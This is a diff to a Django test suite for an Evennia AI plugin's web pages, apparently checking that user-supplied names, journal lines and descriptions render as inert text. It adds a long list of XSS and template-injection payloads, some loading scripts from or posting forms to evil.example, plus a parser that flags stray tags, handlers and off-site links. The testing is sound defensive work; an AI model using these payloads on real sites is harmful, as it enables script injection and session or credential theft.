@@ -3,6 +3,7 @@
 import json
 import re
 from html import unescape
+from html.parser import HTMLParser
 from unittest.mock import patch
 
 from django.test import Client, override_settings
@@ -12,6 +13,8 @@ from twisted.internet.defer import maybeDeferred
 from evennia_ai import conf, services
 from evennia_ai.history.audience import private
 from evennia_ai.history.messages import Message, Speaker
+from evennia_ai.rag_memory.entities import new_profile, observe
+from evennia_ai.rag_memory.ledger import PROPOSED
 from evennia_ai.web.site import ADMIN, BUILDER
 from evennia_ai.web.urls import PAGES
 from tests.command_line import CommandLineTest
@@ -34,7 +37,98 @@ HOSTILE = (
     "&lt;b&gt;",
     "<!-- --><plaintext>",
     "<style>body{display:none}</style>",
+    # Handlers and tags in other cases and forms.
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img/src='x'/onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=data:text/html,<script>alert(1)</script>>",
+    "<embed src=//evil.example/x.swf>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example/>",
+    "<form action=//evil.example><input name=csrfmiddlewaretoken>",
+    "<button formaction=javascript:alert(1)>Approve</button>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
+    "<marquee onstart=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<textarea></textarea><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</option></select><script>alert(1)</script>",
+    '" onmouseover="alert(1)',
+    "' onmouseover='alert(1)",
+    "`onmouseover=alert(1)`",
+    '" hx-get="/ai/log/" hx-trigger="load',
+    "<div hx-get=//evil.example hx-trigger=load></div>",
+    "<div data-chart=stacked data-source=chart></div>",
+    # Templates, entities, markdown, Evennia's own markup.
+    "{% include 'evennia_ai/base.html' %}",
+    "{{ request.user.password }}",
+    "{# gone #}",
+    "{{ ''.__class__.__mro__ }}",
+    "${alert(1)} #{7*7} <%= 7*7 %>",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "<javascript:alert(1)>",
+    "**bold** `code` # head\n> quote\n- list",
+    "|rred|n |lclook|ltlook|le |[001",
+    # Directions, controls, invisible and combining characters.
+    "\u2066\u202e\u2069\u200f\u061cabc",
+    "z\u0335\u0321\u0327a\u0336l\u0337g\u0338o" * 20,
+    "a\u200bb\u2060c\ufeffd\u00ad",
+    "\x1b[31mred\x1b[0m\x07",
 )
+
+
+class Harmless(HTMLParser):
+    """Reads a page: its text, and whatever in it no template of ours makes."""
+
+    TAGS = re.compile(
+        "html|head|meta|title|link|script|body|a|header|nav|img|ul|li|main|h1|h2|p|ol|span|time|b|"
+        "code|form|label|input|select|option|button|div|table|thead|tbody|tr|th|td|meter|br|kbd|"
+        "figure|figcaption|blockquote|footer|details|summary|s|dl|dt|dd|textarea"
+    )
+    PLACES = ("href", "src", "action", "formaction", "hx-get")
+
+    def __init__(self):
+        super().__init__()
+        self.text, self.faults = "", []
+
+    @classmethod
+    def read(cls, response):
+        """A response, read."""
+        page = cls()
+        page.feed(response.content.decode())
+        page.close()
+        return page
+
+    def handle_starttag(self, tag, attrs):
+        if not self.TAGS.fullmatch(tag):
+            self.faults.append(f"<{tag}>")
+        given = dict(attrs)
+        if tag == "script" and "src" not in given and given.get("type") != "application/json":
+            self.faults.append("a script")
+        for name, value in given.items():
+            if name.startswith("on") or name == "style":
+                self.faults.append(f"{tag} {name}")
+            if name in self.PLACES and not re.match(r"(/(?!/)|[?#])", value or ""):
+                self.faults.append(f"{tag} {name}={value}")
+
+    def handle_comment(self, data):
+        self.faults.append(f"<!--{data}-->")
+
+    def handle_data(self, data):
+        self.text += data
 
 
 @override_settings(ROOT_URLCONF="tests.web.urls")
@@ -161,25 +255,39 @@ class TestWhatTheyShow(PagesTest):
         self.client.force_login(self.account)
 
     def test_hostile_texts(self):
-        """Names and lines are text: no tag, handler or template of them gets through."""
-        messages = [self.said(text, who=text) for text in HOSTILE]
+        """Names, lines and descriptions are text: none makes an element, a handler or a link."""
+        script, now = self.script, self.script.now()
+        bodies = script.obj.entities
+        heard = [self.said(text, who=text) for text in HOSTILE]
+        for number, text in enumerate(HOSTILE):
+            script.obj.journal.add(text)
+            profile = new_profile(f"o{number}.x", text, now)
+            bodies.put({profile.id: observe(profile, text, now, heard[number].id)})
+        for number, text in enumerate(HOSTILE[:10]):
+            by = Speaker(text, f"o{number}.note")
+            script.ledger.add(text, by, state=PROPOSED, kind="fact")
         for text in HOSTILE:
-            self.script.obj.journal.add(text)
-        self.script.runtime.last_error = HOSTILE[0]
-        for message in (messages[0], messages[-1]):
+            script.obj.key = text
+            script.obj.db.desc = script.obj.location.key = text
+            script.runtime.last_error = text
+            shown = self.page_of("assistants")
+            self.assertIn(" ".join(text.split()), " ".join(shown.text.split()))
+        script.state.configure({"persona": "\n".join(HOSTILE[:40])})
+        for message in (heard[0], heard[-1]):
             for page, address in self.addresses(message.id):
-                text = self.get(address).content.decode()
-                inside = re.sub(
-                    r'<script (src="[^"]+" defer|id="\w+" type="application/json")>', "", text
-                )
                 with self.subTest(page=page.name):
-                    self.assertNotIn("<script>", inside)
-                    self.assertNotRegex(inside, r"<(img src=x|svg|style>|plaintext|a href=http:)")
-                    self.assertNotIn("evennia_ai tests-only", text)
-                    self.assertNotRegex(text, r'href="javascript:')
-        shown = self.get(f"/ai/{self.script.pk}/talk/").content.decode()
-        self.assertIn("&lt;script&gt;alert(1)&lt;/script&gt;", shown)
-        self.assertIn("{{ settings.SECRET_KEY }}", shown)
+                    self.assertEqual(Harmless.read(self.get(address)).faults, [])
+        talk = "".join(self.page_of("talk", f"q={number}").text for number in ("", "a"))
+        talk += self.page_of("talk", f"before={heard[20].id}").text
+        missing = [text for text in HOSTILE if text.strip() not in talk]
+        self.assertEqual(missing, [])
+
+    def page_of(self, name, query=""):
+        """A page, read as a browser reads it; its faults are checked."""
+        at = next(address for page, address in self.addresses() if page.name == name)
+        found = Harmless.read(self.get(f"{at}?{query}"))
+        self.assertEqual(found.faults, [])
+        return found
 
     def test_talk_is_filtered_and_paged(self):
         """Who, words, channel and audience narrow the talk; older lines are a page further."""
@@ -273,5 +381,47 @@ class TestActs(PagesTest):
         self.assertShows(self.send("memory", act="quarantine", player="Mallory"), "uses nothing")
         self.assertShows(self.send("memory", act="release", player="Mallory"), "uses again")
         self.assertShows(self.send("memory", act="dance"), "no such act")
+        self.assertShows(self.send("memory", act="drop", id="o1"), "no such observation")
+        self.assertShows(self.send("memory", act="erase", id="x"), "no such memory")
         self.assertTrue(self.logged("quarantine") and self.logged("forget"))
         other.delete()
+
+    def test_an_observation_is_dropped(self):
+        """The profile no longer holds it, and the others stay."""
+        profile = new_profile("o7.mallory", "Mallory", self.script.now())
+        for text in ("Mallory is the mayor.", "Mallory owns a goat."):
+            profile = observe(profile, text, self.script.now(), "m1")
+        self.script.obj.entities.put({profile.id: profile})
+        wrong = profile.observations[0]
+        shown = self.send("memory", act="drop", profile=profile.id, id=wrong.id)
+        self.assertShows(shown, "no longer believes this of Mallory", "owns a goat")
+        self.assertHides(shown, "is the mayor")
+        self.assertEqual(self.logged("dropped")[0]["observation"], wrong.id)
+
+    def test_a_memory_is_found_and_erased(self):
+        """Words find semantic memories and entries with scores; a memory can be erased alone."""
+        entry = self.script.obj.journal.add("Bob owns a green boat.")
+        memories, scope = self.script.mind.memories, self.script.scope
+        meta = {"source_id": entry.id, "audience": "public", "type": "journal"}
+        item = {"source_id": entry.id, "text": entry.content, "metadata": meta}
+        [memory] = wait_for(memories.add(scope, [item]))
+        shown = self.get(f"/ai/{self.script.pk}/memory/?q=green+boat")
+        self.assertShows(shown, "score", memory, f"from {entry.id}", "1 found of 1")
+        self.assertShows(self.send("memory", act="erase", id=memory), "The memory is gone")
+        self.assertEqual(wait_for(memories.ids(scope)), set())
+        self.assertFalse(self.script.obj.journal.get(entry.id).withdrawn)
+        self.assertEqual(self.logged("erased")[0]["source"], entry.id)
+
+
+class TestDoctor(PagesTest):
+    """The doctor's page: quick checks at once, each other one by itself."""
+
+    def test_slow_checks_come_one_by_one(self):
+        """Without scripts a link runs a check; the page itself runs only the quick ones."""
+        self.client.force_login(self.account)
+        page = self.get("/ai/doctor/")
+        self.assertShows(page, "Python", "?check=model", "?check=embedder")
+        self.assertHides(page, "dimensions", "?check=versions")
+        self.assertShows(self.get("/ai/doctor/?check=embedder"), "dimensions", "?check=versions")
+        self.assertShows(self.get("/ai/doctor/?check=nonsense"), "Python", "?check=model")
+        self.assertHides(self.get("/ai/doctor/?check=all"), "?check=")
